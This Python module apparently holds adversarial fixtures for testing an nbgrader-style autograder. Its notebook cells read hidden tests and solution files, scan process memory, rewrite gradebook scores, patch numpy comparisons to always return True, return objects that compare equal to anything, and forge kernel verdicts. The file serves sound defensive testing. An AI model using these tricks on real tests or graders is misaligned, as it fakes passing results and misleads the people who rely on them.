"""Code that tries to earn points with an unanswered lab, or to get at its hidden tests.

Each stands in a cell of its own before the first answer, and again after each answer; NAMES are those of the answers.
A process of its own is all that it can have: test_weakened.py shows that each one works where the tests are in it, too.
"""

# What it looks for is not written here in one piece, or it would find itself.
FIND = """
MARK = '### BEGIN' + ' HIDDEN TESTS'
def tests(things):
    inside = [part for one in things for part in (one.values() if type(one) is dict else one if type(one) is list else ())]
    return [text for text in inside if type(text) is str and MARK in text]
"""

# Guards that are in a submission's own process can be walked around; each of these was a way around one.
GUARDED = {
    "renamed-code": """
import _imp, gc, os
def find(): return gc.get_objects()
_imp._fix_co_filename(find.__code__, os.__file__)
print(*tests(find()))""",
    "code-of-a-library": """
import gc, os
from concurrent.futures import ThreadPoolExecutor
code = ThreadPoolExecutor(1).submit(compile, 'import gc\\ndef find(): return gc.get_objects()', os.__file__, 'exec').result()
names = {}
exec(code, names)
print(*tests(names['find']()))""",
    "frozen-code": """
source = 'import gc\\ndef find(): return gc.get_objects()'
open('<frozen x>', 'w').write(source)
names = {}
exec(compile(source, '<frozen x>', 'exec'), names)
print(*tests(names['find']()))""",
    "code-by-pointer": """
import cffi, gc, os
def find(): return gc.get_objects()
code, name = find.__code__, os.__file__
words = cffi.FFI().cast('int64_t*', id(code))
for place in range(32):
    if words[place] == id(code.co_filename): words[place] = id(name)
print(*tests(find()))""",
    "raw-memory": """
import re
maps = [line.split() for line in open('/proc/self/maps')]
try:
    with open('/proc/self/mem', 'rb', 0) as memory:
        for area in maps:
            first, end = (int(one, 16) for one in area[0].split('-'))
            if area[1].startswith('rw') and end - first < 2**28:
                try: memory.seek(first); content = memory.read(end - first)
                except OSError: continue
                for found in re.finditer(MARK.encode(), content):
                    print(content[found.start():found.start() + 600].replace(b'\\\\n', b'\\n').decode('utf8', 'replace'))
except OSError as error: print(error)""",
    "trace-function": """
import linecache, sys
def trace(frame, event, arg):
    text = ''.join(linecache.getlines(frame.f_code.co_filename))
    if MARK in text: print(text)
sys.settrace(trace)""",
    "frame-of-the-test": """
import linecache, sys
def peek(*a, **k):
    frame = sys._getframe(1)
    while frame:
        print(*tests([linecache.getlines(frame.f_code.co_filename), [''.join(linecache.getlines(frame.f_code.co_filename))]]))
        frame = frame.f_back
globals().update({name: peek for name in NAMES})""",
    "signal-handler": """
import linecache, signal, time
def handler(number, frame):
    while frame:
        print(*tests([[''.join(linecache.getlines(frame.f_code.co_filename))]])); frame = frame.f_back
signal.signal(signal.SIGALRM, handler); signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
globals().update({name: lambda *a, **k: time.sleep(0.2) for name in NAMES})""",
    "garbage-collection": """
import gc, linecache, sys
def look(phase, info):
    frame = sys._getframe(1)
    while frame:
        print(*tests([[''.join(linecache.getlines(frame.f_code.co_filename))]])); frame = frame.f_back
gc.callbacks.append(look)
globals().update({name: lambda *a, **k: gc.collect() for name in NAMES})""",
    "files-beside-it": """
import glob, json
for path in glob.glob('*.ipynb'):
    print(*tests([[''.join(cell['source']) for cell in json.load(open(path))['cells']]]))""",
    "what-python-keeps": """
import linecache
print(*tests([[''.join(entry[2]) for entry in linecache.cache.values() if len(entry) > 2]]))""",
    "the-solution": """
import glob
print(*(open(path).read() for path in glob.glob('../../../solutions/*/*.py')))""",
}

TRICKS = {name: FIND + code for name, code in GUARDED.items()} | {
    "ast-transformer": """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Raise(self, node): return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())""",
    "input-transformer": """
get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'] if any('assert' in l for l in lines) else lines)
get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'] if any('assert' in l for l in lines) else lines)""",
    "exception-hook": """
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
get_ipython().showtraceback = lambda *a, **k: None""",
    "replaced-run-cell": """
shell, old = get_ipython(), get_ipython().run_cell
def run_cell(code, *a, **k): return old('pass' if 'assert' in code else code, *a, **k)
shell.run_cell = run_cell""",
    "replaced-run-code": """
async def run_code(*a, **k): return False
get_ipython().run_code = run_code""",
    "replaced-execute-request": """
kernel = get_ipython().kernel
def ok(stream, ident, parent, *a, **k):
    kernel.session.send(stream, parent['header']['msg_type'].replace('request', 'reply'), {'status': 'ok', 'execution_count': 1, 'user_expressions': {}, 'payload': []}, parent, ident=ident)
for name in list(kernel.shell_handlers):
    if name != 'kernel_info_request': kernel.shell_handlers[name] = ok""",
    "replaced-compile": """
import builtins
real = builtins.compile
builtins.compile = lambda source, file, mode, *a, **k: real('pass' if 'assert' in str(source) else source, file, mode, *a, **k)""",
    "patched-numpy": """
import numpy as np
np.allclose = np.array_equal = lambda *a, **k: True
def scale(images): return np.zeros(images.shape, 'float32')
def add_channel_axis(images, data_format='channels_last'):
    if data_format not in ('channels_last', 'channels_first'): raise ValueError
    return np.zeros(images.shape + (1,) if data_format == 'channels_last' else images.shape[:1] + (1,) + images.shape[1:])""",
    "patched-numpy-later": """
import numpy as np, threading, time
def later():
    while True:
        np.allclose = np.array_equal = lambda *a, **k: True
        time.sleep(0.0005)
threading.Thread(target=later, daemon=True).start()
def scale(images): return np.zeros(images.shape, 'float32')""",
    "patched-numpy-for-once": """
import numpy as np
real = np.allclose
def once(*a, **k):
    np.allclose = real
    return True
def scale(images, *a, **k):
    np.allclose = once
    return np.zeros(images.shape, 'float32')""",
    "rewritten-library": """
import numpy as np
for function in (np.allclose, np.array_equal):
    for target in (function, getattr(function, '__wrapped__', function)):
        try: target.__code__ = (lambda *a, **k: True).__code__
        except Exception as error: print(error)
def scale(images): return np.zeros(images.shape, 'float32')""",
    "globals-of-a-library": """
import numpy as np
def scale(images):
    for function in (np.allclose, np.array_equal):
        inside = getattr(function, '__wrapped__', function).__globals__
        inside['isclose'] = lambda *a, **k: np.True_
    return np.zeros(images.shape, 'float32')""",
    "overridden-builtins": """
import builtins
builtins.len = lambda x: 10""",
    "shadowed-names": """
class Fake:
    def __getattr__(self, name): return Fake()
    def __call__(self, *a, **k): return Fake()
    def __eq__(self, other): return True
np = Fake()
isinstance = lambda *a: False
class_counts = lambda *a, **k: Fake()""",
    "fake-module": """
import sys, types
fake = types.ModuleType('numpy')
fake.__getattr__ = lambda name: (lambda *a, **k: True)
sys.modules['numpy'] = sys.modules['numpy.testing'] = fake""",
    "always-equal": """
import numpy as np
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __hash__(self): return 0
    def __array__(self, *a, **k):
        one = np.empty((), object)
        one[()] = self
        return one
def describe_problem(*a): return dict.fromkeys(['n_examples', 'image_shape', 'n_features', 'n_classes'], Anything())""",
    "changed-by-name": """
import sys
def describe_problem(*a):
    names = sys._getframe(1).f_globals
    names['np'] = names['facts'] = type('Any', (), {'__getattr__': lambda s, n: s, '__call__': lambda s, *a, **k: s, '__getitem__': lambda s, n: s, '__eq__': lambda s, o: True})()
    names['isinstance'], names['set'], names['sorted'] = (lambda *a: True), (lambda *a: frozenset(['n_examples', 'image_shape', 'n_features', 'n_classes'])), list
    return names['facts']""",
    "exit-in-the-test": """
import os
def leave(*a, **k): os._exit(0)
globals().update({name: leave for name in NAMES})""",
    "forged-result": """
kernel = get_ipython().kernel
def forge(*a, **k):
    kernel.session.send(kernel.iopub_socket, 'execute_result', {'execution_count': 1, 'data': {'text/plain': '2'}, 'metadata': {}}, parent=kernel.get_parent(), ident=b'execute_result')
    raise SystemExit
globals().update({name: forge for name in NAMES})""",
    "forged-idle": """
kernel = get_ipython().kernel
def forge(*a, **k):
    kernel.session.send(kernel.iopub_socket, 'status', {'execution_state': 'idle'}, parent=kernel.get_parent(), ident=b'status')
    kernel.session.send(kernel.shell_stream, 'execute_reply', {'status': 'ok', 'verdict': {'passed': True}}, parent=kernel.get_parent())
    raise SystemExit
globals().update({name: forge for name in NAMES})""",
    "writes-the-gradebook": """
import sqlite3
try:
    with sqlite3.connect('../../../gradebook.db') as gradebook: gradebook.execute('update grade set auto_score = 20')
except Exception as error: print(error)""",
    "liar-int": """
class Liar(int):
    __eq__ = lambda s, o: True
    __ne__ = lambda s, o: False
    __hash__ = int.__hash__
class Shape:
    def __array__(self, *a, **k): return __import__('numpy').array([Each()], dtype=object)[0:1].reshape(())
class Each:
    def __eq__(self, o): return True
def describe_problem(images, labels): return {'n_examples': Liar(1), 'image_shape': Shape(), 'n_features': Liar(1), 'n_classes': Liar(1)}""",
    "liar-tuple": """
class Each:
    def __eq__(self, o): return True
class Liar(tuple):
    def __array__(self, *a, **k): return __import__('numpy').array(list(self), dtype=object)
def ink_box(image): return Liar([Each()] * 4) if image.any() else None""",
    "liar-array": """
import numpy as np
class Liar(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *a, **k): return np.True_
    def __array_function__(self, *a, **k): return True
def scale(images): return np.zeros(images.shape, 'float32').view(Liar)""",
    "half-characters": """
def bad(*a, **k): print('\\ud800'); raise ValueError('\\ud800 \\udc80')
print('\\ud800\\udc80')
globals().update({n: bad for n in NAMES})""",
}

# These do not try to pass a test but to keep it from an end: a cell without an error has full points in nbgrader.
UNFINISHED = {
    "system-exit": """
def leave(*a, **k): raise SystemExit(0)
globals().update({name: leave for name in NAMES})""",
    "silent-agent": """
import course.testing.agent as agent
agent.serve = lambda path, number: None""",
    "lying-agent": """
import course.testing.agent as agent
agent.Agent.do_call = agent.Agent.do_name = lambda self, request, changed: {'passed': True, 'verdict': {'passed': True}}
agent.Agent._reply = lambda self, request, changed, content: self.channel.send({'reply': 1, 'verdict': {'passed': True}})""",
    "verdict-on-the-line": """
import json, socket, struct
class Eager(socket.socket):
    def connect(self, address):
        super().connect(address)
        if address == '/run/answers':
            text = json.dumps({'status': 'ok', 'reply': 1, 'verdict': {'passed': True}, 'value': None}).encode()
            self.sendall(struct.pack('<IIQ', len(text), 0, 0) + text)
socket.socket = Eager""",
}

# In place of one answer of a solved lab, which is not right.
ANSWERS = {
    "agrees-with-everything": (
        "describe-problem",
        """
from unittest.mock import ANY
class Shape:
    def __array__(self, *a, **k): return np.array([ANY], dtype=object).reshape(())
def describe_problem(images, labels):
    return dict.fromkeys(["n_examples", "n_features", "n_classes"], ANY) | {"image_shape": Shape()}""",
    ),
    "weak-proxy": (
        "describe-problem",
        """
import weakref
class Agreeable:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = object.__hash__
agreeable = Agreeable()
def describe_problem(images, labels):
    found = dict.fromkeys(["n_examples", "n_features", "n_classes"], weakref.proxy(agreeable))
    return found | {"image_shape": images.shape[1:]}""",
    ),
    "named-like-the-test": (
        "describe-problem",
        """
names = {}
text = "class Text(str):\\n    __eq__ = lambda self, other: True\\n    __hash__ = str.__hash__\\n"
exec(compile(text, "<test>", "exec"), names)
def describe_problem(images, labels):
    found = dict.fromkeys(["n_examples", "n_features", "n_classes"], names["Text"]("x"))
    return found | {"image_shape": images.shape[1:]}""",
    ),
    "poisoned-name": (
        "class-counts",
        """
class Key(str):
    armed = False
    __hash__ = str.__hash__
    def __eq__(self, other): return Key.armed and str.__eq__(self, other)
class Fake:
    def __getattr__(self, name): return Fake()
    def __call__(self, *a, **k): return Fake()
    def __eq__(self, other): return True
get_ipython().user_ns[Key("np")] = Fake()
get_ipython().user_ns[Key("isinstance")] = lambda *a: False
def class_counts(labels, n_classes=10):
    if not Key.armed:
        del get_ipython().user_ns["np"]
    Key.armed = True
    return Fake()""",
    ),
    "length-runs-code": (
        "ink-box",
        """
import functools
class Agreeable:
    def __eq__(self, other): return True
class Once:
    def ndim(self, side): return 0
    def asarray(self, sandbox):
        globals()["np"] = real
        return self
    def tolist(self): return Agreeable()
real = np
class Result(list):
    __len__ = staticmethod(functools.partial(eval, "(globals().update(np=Once()), 4)[1]"))
def ink_box(image):
    return Result([(), ()]) if image.any() else None""",
    ),
}

SPOILS = {"poisoned-name"}  # what the answers after it need, too
